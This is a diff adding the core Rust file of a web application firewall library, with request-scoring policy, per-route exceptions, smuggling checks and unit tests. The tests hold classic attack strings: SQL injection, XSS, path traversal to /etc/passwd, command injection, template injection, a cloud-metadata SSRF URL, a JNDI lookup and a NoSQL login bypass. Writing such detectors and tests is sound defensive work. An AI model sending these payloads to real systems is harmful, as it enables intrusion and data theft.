@@ -1,0 +1,367 @@
+#![doc = include_str!("../README.md")]
+
+pub mod detect;
+pub mod normalise;
+pub mod request;
+
+use std::sync::Arc;
+
+use serde::Serialize;
+
+pub use detect::{Family, Finding, InjectionEngine, Libinjection};
+pub use request::{Field, Location, Request};
+
+/// What the shield does with a request that scores at or above the threshold.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Mode {
+    /// Not inspected at all.
+    Off,
+    /// Inspected and logged; never blocked (for tuning before enforcing).
+    Detect,
+    /// Blocked with 403 and an event id.
+    Block,
+}
+
+impl Mode {
+    #[must_use]
+    pub fn parse(s: &str) -> Option<Mode> {
+        match s {
+            "off" => Some(Mode::Off),
+            "detect" | "detect-only" | "log" => Some(Mode::Detect),
+            "block" => Some(Mode::Block),
+            _ => None,
+        }
+    }
+
+    #[must_use]
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Mode::Off => "off",
+            Mode::Detect => "detect",
+            Mode::Block => "block",
+        }
+    }
+}
+
+/// A rule family switched off for one field of one route: e.g. merchants may post HTML in a product
+/// description, and theme templates are made of `{{ … }}`.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Exception {
+    pub method: &'static str,
+    /// Path segments; `*` matches any one segment, a trailing `**` any rest.
+    pub path: &'static str,
+    /// The field name (for JSON, the dotted path, e.g. `.description`).
+    pub field: &'static str,
+    pub families: &'static [Family],
+}
+
+impl Exception {
+    fn matches(&self, method: &str, path: &str, field: &Field) -> bool {
+        if !self.method.eq_ignore_ascii_case(method) || field.name != self.field {
+            return false;
+        }
+        let mut want = self.path.split('/').filter(|s| !s.is_empty());
+        let mut got = path.split('/').filter(|s| !s.is_empty());
+        loop {
+            match (want.next(), got.next()) {
+                (Some("**"), _) => return true,
+                (Some("*"), Some(_)) => {}
+                (Some(w), Some(g)) if w == g => {}
+                (None, None) => return true,
+                _ => return false,
+            }
+        }
+    }
+}
+
+/// The exceptions Palisade itself needs: fields whose content is HTML or template source by design. The
+/// content is made safe where it is used (escaped on output; templates run sandboxed).
+pub const BUILTIN_EXCEPTIONS: &[Exception] = &[
+    Exception { method: "POST", path: "/admin/stores/*/theme", field: "source", families: &ALL_CONTENT },
+    Exception { method: "PUT", path: "/api/v1/admin/stores/*/theme/*", field: ".source", families: &ALL_CONTENT },
+    Exception {
+        method: "POST",
+        path: "/admin/stores/*/products",
+        field: "description",
+        families: &[Family::Xss, Family::Generic],
+    },
+    Exception {
+        method: "POST",
+        path: "/admin/stores/*/products/*",
+        field: "description",
+        families: &[Family::Xss, Family::Generic],
+    },
+    Exception {
+        method: "POST",
+        path: "/api/v1/admin/stores/*/products",
+        field: ".description",
+        families: &[Family::Xss, Family::Generic],
+    },
+    // Passwords are hashed, never interpreted: any character is allowed in them.
+    Exception { method: "POST", path: "/login", field: "password", families: &ALL_CONTENT },
+    Exception { method: "POST", path: "/register", field: "password", families: &ALL_CONTENT },
+    Exception { method: "POST", path: "/api/v1/auth/login", field: ".password", families: &ALL_CONTENT },
+];
+
+const ALL_CONTENT: [Family; 9] = [
+    Family::Xss,
+    Family::Sqli,
+    Family::Generic,
+    Family::Php,
+    Family::Rce,
+    Family::Java,
+    Family::Lfi,
+    Family::Session,
+    Family::Rfi,
+];
+
+/// How strict the shield is.
+#[derive(Debug, Clone)]
+pub struct Policy {
+    pub mode: Mode,
+    /// 1 (few false positives) to 4 (most thorough), as the CRS.
+    pub paranoia: u8,
+    /// Inbound anomaly score at which a request is blocked (CRS default 5: one critical finding).
+    pub threshold: u32,
+    pub exceptions: Vec<Exception>,
+}
+
+impl Default for Policy {
+    fn default() -> Self {
+        Self { mode: Mode::Block, paranoia: 1, threshold: 5, exceptions: BUILTIN_EXCEPTIONS.to_vec() }
+    }
+}
+
+/// What to do with the request.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Action {
+    Allow,
+    Log,
+    Block,
+}
+
+/// The outcome of an inspection.
+#[derive(Debug, Clone, Serialize)]
+pub struct Verdict {
+    pub action: Action,
+    pub score: u32,
+    pub findings: Vec<Finding>,
+}
+
+impl Verdict {
+    fn allow() -> Self {
+        Verdict { action: Action::Allow, score: 0, findings: Vec::new() }
+    }
+}
+
+/// Allowed request methods (CRS 911100).
+pub const METHODS: &[&str] = &["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"];
+/// Largest single header value.
+pub const MAX_HEADER: usize = 8 * 1024;
+
+/// The engine: detectors plus policy. Cheap to clone.
+#[derive(Clone)]
+pub struct Shield {
+    engine: Arc<dyn InjectionEngine>,
+}
+
+impl std::fmt::Debug for Shield {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("Shield").finish_non_exhaustive()
+    }
+}
+
+impl Default for Shield {
+    fn default() -> Self {
+        Self::new(Arc::new(Libinjection))
+    }
+}
+
+impl Shield {
+    #[must_use]
+    pub fn new(engine: Arc<dyn InjectionEngine>) -> Self {
+        Self { engine }
+    }
+
+    /// Inspects a request under `policy`.
+    #[must_use]
+    pub fn inspect(&self, req: &Request, policy: &Policy) -> Verdict {
+        if policy.mode == Mode::Off {
+            return Verdict::allow();
+        }
+        let mut findings = Vec::new();
+        protocol(req, &mut findings);
+        for field in req.fields() {
+            let skip: Vec<Family> = policy
+                .exceptions
+                .iter()
+                .filter(|e| e.matches(&req.method, &req.path, &field))
+                .flat_map(|e| e.families.iter().copied())
+                .collect();
+            let plus = matches!(field.location, Location::Query | Location::Body | Location::Name);
+            let n = normalise::normalise(&field.value, plus);
+            let before = findings.len();
+            if field.location == Location::Path {
+                detect::inspect_path(&field, &n, &mut findings);
+            }
+            detect::inspect_field(self.engine.as_ref(), &field, &n, policy.paranoia, &mut findings);
+            if !skip.is_empty() {
+                let mut i = before;
+                while i < findings.len() {
+                    if findings.get(i).is_some_and(|f| skip.contains(&f.family)) {
+                        findings.remove(i);
+                    } else {
+                        i += 1;
+                    }
+                }
+            }
+        }
+        findings.retain(|f| f.paranoia <= policy.paranoia);
+        // Each rule scores once per request, as in the CRS.
+        let mut seen = std::collections::HashSet::new();
+        let score: u32 = findings.iter().filter(|f| seen.insert(f.rule)).map(|f| f.score).sum();
+        let action = if score < policy.threshold {
+            Action::Allow
+        } else if policy.mode == Mode::Block {
+            Action::Block
+        } else {
+            Action::Log
+        };
+        Verdict { action, score, findings }
+    }
+}
+
+fn protocol_finding(rule: &'static str, score: u32, field: &str, value: &str) -> Finding {
+    Finding {
+        rule,
+        family: Family::Protocol,
+        score,
+        paranoia: 1,
+        location: Location::Header,
+        field: field.to_owned(),
+        excerpt: value.chars().take(80).collect(),
+    }
+}
+
+/// Request-level anomalies: methods, smuggling-shaped framing headers, oversized headers.
+fn protocol(req: &Request, out: &mut Vec<Finding>) {
+    if !METHODS.contains(&req.method.as_str()) {
+        out.push(protocol_finding("protocol.method", detect::CRITICAL, "method", &req.method));
+    }
+    let lengths: Vec<&str> =
+        req.headers.iter().filter(|(n, _)| n == "content-length").map(|(_, v)| v.as_str()).collect();
+    let te: Vec<&str> = req.headers.iter().filter(|(n, _)| n == "transfer-encoding").map(|(_, v)| v.as_str()).collect();
+    if lengths.len() > 1 && lengths.windows(2).any(|w| w.first() != w.get(1)) {
+        out.push(protocol_finding(
+            "protocol.conflicting-content-length",
+            detect::CRITICAL,
+            "content-length",
+            &lengths.join(","),
+        ));
+    }
+    if lengths.iter().any(|l| l.trim().parse::<u64>().is_err()) {
+        out.push(protocol_finding(
+            "protocol.bad-content-length",
+            detect::CRITICAL,
+            "content-length",
+            &lengths.join(","),
+        ));
+    }
+    if !lengths.is_empty() && !te.is_empty() {
+        out.push(protocol_finding("protocol.length-and-chunked", detect::CRITICAL, "transfer-encoding", &te.join(",")));
+    }
+    if te.iter().any(|t| !t.trim().eq_ignore_ascii_case("chunked")) {
+        out.push(protocol_finding("protocol.transfer-encoding", detect::CRITICAL, "transfer-encoding", &te.join(",")));
+    }
+    if let Some((n, v)) = req.headers.iter().find(|(_, v)| v.len() > MAX_HEADER) {
+        out.push(protocol_finding("protocol.oversized-header", detect::CRITICAL, n, v));
+    }
+    if req.path.contains('#') || !req.path.starts_with('/') && req.path != "*" {
+        out.push(protocol_finding("protocol.bad-path", detect::CRITICAL, "path", &req.path));
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn verdict(req: Request) -> Verdict {
+        Shield::default().inspect(&req, &Policy::default())
+    }
+
+    #[test]
+    fn every_pattern_compiles() {
+        assert!(detect::patterns_compile());
+    }
+
+    #[test]
+    fn classic_attacks_are_blocked_and_shoppers_are_not() {
+        for uri in [
+            "/search?q=1'%20OR%20'1'='1",
+            "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+            "/search?q=../../etc/passwd",
+            "/search?q=;cat%20/etc/passwd",
+            "/search?q={{7*7}}",
+            "/search?url=http://169.254.169.254/latest/meta-data/",
+            "/search?q=${jndi:ldap://x.example/a}",
+            "/s/shop/../../../etc/passwd",
+            "/search?q=1%250d%250aSet-Cookie:%20x=1",
+        ] {
+            let v = verdict(Request::new("GET", uri));
+            assert_eq!(v.action, Action::Block, "{uri}: {:?}", v.findings);
+        }
+        for uri in [
+            "/search?q=men%27s+shoes",
+            "/search?q=O%27Reilly",
+            "/search?q=%3C3+gift",
+            "/search?q=cat+food",
+            "/search?q=echo+dot+speaker",
+            "/search?q=100%25+cotton",
+            "/s/lion-city-tea/p/classic-sencha",
+        ] {
+            let v = verdict(Request::new("GET", uri));
+            assert_eq!(v.action, Action::Allow, "{uri}: {:?}", v.findings);
+        }
+    }
+
+    #[test]
+    fn json_keys_are_inspected_for_nosql_operators() {
+        let req = Request::new("POST", "/api/v1/auth/login")
+            .header("content-type", "application/json")
+            .body(r#"{"email": {"$ne": null}, "password": {"$gt": ""}}"#);
+        assert_eq!(verdict(req).action, Action::Block);
+    }
+
+    #[test]
+    fn exceptions_apply_to_their_route_and_field_only() {
+        let theme = Request::new("PUT", "/api/v1/admin/stores/abc/theme/product.html")
+            .header("content-type", "application/json")
+            .body(r#"{"source": "<h1>{{ product.title | upper }}</h1>{% for v in product.variants %}{{ v.sku }}{% endfor %}"}"#);
+        assert_eq!(verdict(theme).action, Action::Allow);
+        let elsewhere = Request::new("PUT", "/api/v1/admin/stores/abc/settings")
+            .header("content-type", "application/json")
+            .body(r#"{"tagline": "{{ config.__class__ }}"}"#);
+        assert_eq!(verdict(elsewhere).action, Action::Block);
+    }
+
+    #[test]
+    fn detect_mode_logs_and_off_mode_looks_away() {
+        let req = Request::new("GET", "/search?q=1'%20OR%20'1'='1");
+        let shield = Shield::default();
+        let detect = Policy { mode: Mode::Detect, ..Policy::default() };
+        assert_eq!(shield.inspect(&req, &detect).action, Action::Log);
+        let off = Policy { mode: Mode::Off, ..Policy::default() };
+        assert_eq!(shield.inspect(&req, &off).action, Action::Allow);
+    }
+
+    #[test]
+    fn smuggling_shaped_framing_is_refused() {
+        let req =
+            Request::new("POST", "/cart/add").header("content-length", "5").header("transfer-encoding", "chunked");
+        assert_eq!(verdict(req).action, Action::Block);
+        let req = Request::new("POST", "/cart/add").header("content-length", "5").header("content-length", "6");
+        assert_eq!(verdict(req).action, Action::Block);
+    }
+}
